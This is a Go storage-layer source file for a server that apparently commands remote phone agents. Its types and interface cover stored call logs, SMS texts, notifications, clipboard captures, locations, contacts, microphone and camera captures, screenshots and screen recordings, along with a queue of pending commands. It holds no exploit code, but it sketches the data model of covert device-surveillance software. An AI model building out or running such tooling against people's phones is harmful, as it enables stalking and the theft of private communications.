package storage

import (
	"context"
	"encoding/json"
	"time"
)

// Client represents a remote device agent known to the server.
// Exactly one record exists per clientID; it is created on first-ever connect
// and updated (never deleted by the normal connect/disconnect flow) afterward.
type Client struct {
	ID          int64                  `json:"id"`
	ClientID    string                 `json:"client_id"`
	FirstSeen   time.Time              `json:"first_seen"`
	LastSeen    time.Time              `json:"last_seen"`
	IsOnline    bool                   `json:"is_online"`
	DynamicData map[string]interface{} `json:"dynamic_data,omitempty"`
}

// QueuedCommand is a command persisted because the target agent was
// unreachable at send time. At most one entry per (clientID, type).
type QueuedCommand struct {
	ID       string                 `json:"id"`
	ClientID string                 `json:"client_id"`
	Type     string                 `json:"type"`
	Payload  map[string]interface{} `json:"payload,omitempty"`
	QueuedAt time.Time              `json:"queued_at"`
}

// CallEntry is one call-log record reported by an agent.
type CallEntry struct {
	ID        int64     `json:"id"`
	PhoneNo   string    `json:"phone_no"`
	Name      string    `json:"name,omitempty"`
	Direction string    `json:"direction,omitempty"` // incoming, outgoing, missed
	Duration  int       `json:"duration,omitempty"`  // seconds
	Date      time.Time `json:"date"`
}

// SMSEntry is one SMS record reported by an agent.
type SMSEntry struct {
	ID      int64     `json:"id"`
	Address string    `json:"address"`
	Body    string    `json:"body,omitempty"`
	Date    time.Time `json:"date"`
}

// NotificationEntry is one notification-log record.
type NotificationEntry struct {
	ID       int64     `json:"id"`
	AppName  string    `json:"app_name"`
	Title    string    `json:"title,omitempty"`
	Content  string    `json:"content,omitempty"`
	PostTime time.Time `json:"post_time"`
}

// ClipboardEntry is one clipboard capture.
type ClipboardEntry struct {
	ID      int64     `json:"id"`
	Content string    `json:"content"`
	Time    time.Time `json:"time"`
}

// LocationSample is one location fix reported by an agent.
type LocationSample struct {
	ID        int64     `json:"id"`
	Latitude  float64   `json:"latitude"`
	Longitude float64   `json:"longitude"`
	Accuracy  float64   `json:"accuracy,omitempty"`
	Date      time.Time `json:"date"`
}

// DownloadRecord is one append-only entry in a client's media/download log.
// Records are created only after the corresponding bytes are durably written.
type DownloadRecord struct {
	ID           int64     `json:"id"`
	Time         time.Time `json:"time"`
	Type         string    `json:"type"`
	OriginalName string    `json:"original_name"`
	Path         string    `json:"path"`
}

// Media type tags for DownloadRecord.Type.
const (
	MediaDownload        = "download"
	MediaVoiceRecording  = "voice_recording"
	MediaScreenshot      = "screenshot"
	MediaScreenRecording = "screen_recording"
	MediaRearCamera      = "rear_camera"
	MediaFrontCamera     = "front_camera"
)

// Snapshot sections: whole-value state replaced wholesale by the agent.
const (
	SectionContacts      = "contacts"
	SectionApps          = "apps"
	SectionPermissions   = "permissions"
	SectionWifiNow       = "wifi_now"
	SectionWifiLog       = "wifi_log"
	SectionCurrentFolder = "current_folder"
	SectionLockState     = "lock_state"
)

// Store defines the interface for server data storage: client records plus
// the per-client sub-collections (command queue, telemetry logs, snapshots).
//
// Lookup methods return (nil, nil) when the requested record does not exist.
type Store interface {
	// Client records
	GetClient(ctx context.Context, clientID string) (*Client, error)
	CreateClient(ctx context.Context, client *Client) error
	MarkClientOnline(ctx context.Context, clientID string, now time.Time, dynamicData map[string]interface{}) error
	MarkClientOffline(ctx context.Context, clientID string, now time.Time) error
	ListClients(ctx context.Context) ([]*Client, error)
	ListClientsByOnline(ctx context.Context, online bool) ([]*Client, error)
	DeleteClient(ctx context.Context, clientID string) error

	// Command queue (insertion order)
	ListQueuedCommands(ctx context.Context, clientID string) ([]*QueuedCommand, error)
	AppendQueuedCommand(ctx context.Context, cmd *QueuedCommand) error
	RemoveQueuedCommand(ctx context.Context, clientID, id string) error

	// Telemetry appends
	AppendCall(ctx context.Context, clientID string, entry *CallEntry) error
	AppendSMS(ctx context.Context, clientID string, entry *SMSEntry) error
	AppendNotification(ctx context.Context, clientID string, entry *NotificationEntry) error
	AppendClipboard(ctx context.Context, clientID string, entry *ClipboardEntry) error
	AppendLocation(ctx context.Context, clientID string, sample *LocationSample) error
	AppendDownload(ctx context.Context, clientID string, rec *DownloadRecord) error

	// Telemetry reads
	ListCalls(ctx context.Context, clientID string) ([]*CallEntry, error)                 // date desc
	ListSMS(ctx context.Context, clientID string) ([]*SMSEntry, error)                    // stored order
	ListNotifications(ctx context.Context, clientID string) ([]*NotificationEntry, error) // post_time desc
	ListClipboard(ctx context.Context, clientID string) ([]*ClipboardEntry, error)        // time desc
	ListLocations(ctx context.Context, clientID string) ([]*LocationSample, error)        // date desc
	LatestLocation(ctx context.Context, clientID string) (*LocationSample, error)
	ListDownloads(ctx context.Context, clientID string) ([]*DownloadRecord, error) // stored order
	ListDownloadsByType(ctx context.Context, clientID, mediaType string) ([]*DownloadRecord, error)

	// Snapshot sections
	PutSnapshot(ctx context.Context, clientID, section string, data json.RawMessage) error
	GetSnapshot(ctx context.Context, clientID, section string) (json.RawMessage, error)

	Close() error
}
